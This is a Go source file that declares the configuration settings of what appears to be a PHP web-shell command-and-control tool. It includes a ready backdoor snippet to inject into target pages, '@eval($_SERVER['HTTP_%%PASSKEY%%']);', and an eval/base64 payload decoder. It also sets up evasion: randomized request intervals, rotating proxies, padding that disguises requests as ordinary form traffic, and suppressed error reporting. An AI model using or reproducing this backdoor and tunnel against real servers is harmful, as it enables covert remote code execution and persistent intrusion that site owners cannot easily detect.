package registry

import (
	"os"

	"github.com/dshills/backchannel/internal/config/buffer"
	"github.com/dshills/backchannel/internal/config/validate"
)

// Declared returns the built-in setting descriptors. getenv resolves the
// EDITOR and BROWSER defaults.
func Declared(getenv func(string) string) []Descriptor {
	if getenv == nil {
		getenv = os.Getenv
	}

	return []Descriptor{
		// Session related
		{
			Name:      "TMPPATH",
			Kind:      buffer.KindRandomLine,
			Validator: validate.RemotePath,
			Default:   literal("/tmp"),
			Doc: `Writable directory on the remote target used to store
temporary files (file uploads, command outputs).

If several directories are given, one is picked for each request.`,
		},
		{
			Name:      "SAVEPATH",
			Kind:      buffer.KindRandomLine,
			Validator: validate.Directory,
			Default:   os.TempDir,
			Doc: `Local directory where session files are saved when no
explicit path is given to the session save command.`,
		},
		{
			Name:      "CACHE_SIZE",
			Kind:      buffer.KindRandomLine,
			Validator: validate.ByteSize(1),
			Default:   literal("1 MiB"),
			Doc: `Maximum size of the session cache holding remote
environment data between requests.`,
		},
		{
			Name:      "VERBOSITY",
			Kind:      buffer.KindRandomLine,
			Validator: validate.Boolean,
			Default:   literal("False"),
			Doc:       `Print debugging messages about tunnel operations.`,
		},

		// Tunnel link opener
		{
			Name:      "TARGET",
			Kind:      buffer.KindRandomLine,
			Validator: validate.URL,
			Default:   literal(validate.None),
			Doc: `URL of the remote page where the backdoor is installed.

The tunnel cannot be opened while TARGET is None.`,
		},
		{
			Name:      "BACKDOOR",
			Kind:      buffer.KindLiteral,
			Validator: validate.Code("%%PASSKEY%%"),
			FileExt:   "php",
			Default:   literal("@eval($_SERVER['HTTP_%%PASSKEY%%']);"),
			Doc: `Code snippet to inject in the target page. It evaluates
the payload carried by the header named after PASSKEY.

The %%PASSKEY%% marker is replaced by the PASSKEY value.`,
		},
		{
			Name:      "PROXY",
			Kind:      buffer.KindRandomLine,
			Validator: validate.Proxy,
			Default:   literal(validate.None),
			Doc: `Proxy used to reach the target, as scheme://host:port.
Supported schemes: http, https, socks4, socks4a, socks5, socks5h.

Several proxies may be given to spread requests between them.`,
		},
		{
			Name:      "PASSKEY",
			Kind:      buffer.KindRandomLine,
			Validator: validate.Identifier,
			Default:   literal("phpSpl01t"),
			Doc: `Name of the HTTP header carrying the payload.

Changing it requires re-deploying BACKDOOR on the target.`,
		},

		// System tools
		{
			Name:      "EDITOR",
			Kind:      buffer.KindRandomLine,
			Validator: validate.ShellCommand,
			FileExt:   "sh",
			Default:   envOr(getenv, "EDITOR", "vi"),
			Doc:       `Local text editor used to edit multi-line values.`,
		},
		{
			Name:      "BROWSER",
			Kind:      buffer.KindRandomLine,
			Validator: validate.ShellCommand,
			FileExt:   "sh",
			Default:   envOr(getenv, "BROWSER", "xdg-open"),
			Doc:       `Local web browser used to open documentation links.`,
		},

		// HTTP requests settings
		{
			Name:      "REQ_DEFAULT_METHOD",
			Kind:      buffer.KindRandomLine,
			Validator: validate.Method,
			Default:   literal("GET"),
			Doc: `HTTP method used to send payloads. GET requests spread
the payload over headers, POST requests carry it in the body.`,
		},
		{
			Name:      "REQ_HEADER_PAYLOAD",
			Kind:      buffer.KindLiteral,
			Validator: validate.Code("%%BASE64%%"),
			FileExt:   "php",
			Default:   literal("eval(base64_decode(%%BASE64%%))"),
			Doc: `Code evaluated by the backdoor header to decode the
payload. The %%BASE64%% marker is replaced by the encoded payload.`,
		},
		{
			Name:      "REQ_INTERVAL",
			Kind:      buffer.KindRandomLine,
			Validator: validate.Interval,
			Default:   literal("1-10"),
			Doc: `Delay in seconds between two requests of a multi-request
payload, as MIN-MAX. A random delay within the range is used.`,
		},
		{
			Name:      "REQ_MAX_HEADERS",
			Kind:      buffer.KindRandomLine,
			Validator: validate.Int(10, 680),
			Default:   literal("100"),
			Doc:       `Maximum number of headers allowed in a single request.`,
		},
		{
			Name:      "REQ_MAX_HEADER_SIZE",
			Kind:      buffer.KindRandomLine,
			Validator: validate.ByteSize(250),
			Default:   literal("4 KiB"),
			Doc:       `Maximum size of a single request header.`,
		},
		{
			Name:      "REQ_MAX_POST_SIZE",
			Kind:      buffer.KindRandomLine,
			Validator: validate.ByteSize(250),
			Default:   literal("4 MiB"),
			Doc:       `Maximum size of a POST request body.`,
		},
		{
			Name:      "REQ_ZLIB_TRY_LIMIT",
			Kind:      buffer.KindRandomLine,
			Validator: validate.ByteSize(1024),
			Default:   literal("20 MiB"),
			Doc: `Payloads bigger than this size are sent without trying
to compress them first.`,
		},
		{
			Name:      "REQ_POST_DATA",
			Kind:      buffer.KindLiteral,
			Validator: validate.Any,
			Default:   literal(""),
			Doc: `Extra urlencoded data appended to POST request bodies,
used to blend requests with legitimate form traffic.`,
		},

		// Payload prefix
		{
			Name:      "PAYLOAD_PREFIX",
			Kind:      buffer.KindLiteral,
			Validator: validate.Code(),
			FileExt:   "php",
			Default:   literal("@error_reporting(0);"),
			Doc:       `Code prepended to every payload before it is encoded.`,
		},
	}
}

func literal(v string) func() string {
	return func() string { return v }
}

func envOr(getenv func(string) string, key, fallback string) func() string {
	return func() string {
		if v := getenv(key); v != "" {
			return v
		}
		return fallback
	}
}
